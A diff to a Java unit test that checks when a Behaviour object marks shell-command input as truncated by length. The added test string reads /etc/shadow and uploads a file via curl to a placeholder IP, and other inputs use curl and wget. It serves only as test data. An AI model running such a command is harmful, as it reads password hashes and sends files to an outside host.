@@ -352,6 +352,9 @@ class BehaviourTest {
         assertThat(Behaviour.of("get() { curl -s $1; }\n" + "get x\n".repeat(300)).truncated())
                 .isTrue();
         assertThat(Behaviour.of(saved.repeat(200)).truncated()).isFalse();
+        String taken = "cat /etc/shadow > %s; curl -F f=@x http://192.0.2.7/";
+        assertThat(Behaviour.of(taken.formatted("a".repeat(129))).truncated()).isTrue();
+        assertThat(Behaviour.of(taken.formatted("a".repeat(128))).truncated()).isFalse();
         assertThat(Behaviour.of("wget -qO- https://example.com/\n".repeat(300)).truncated())
                 .isFalse();
         assertThat(Behaviour.of("echo a\n".repeat(1000)).truncated()).isFalse();
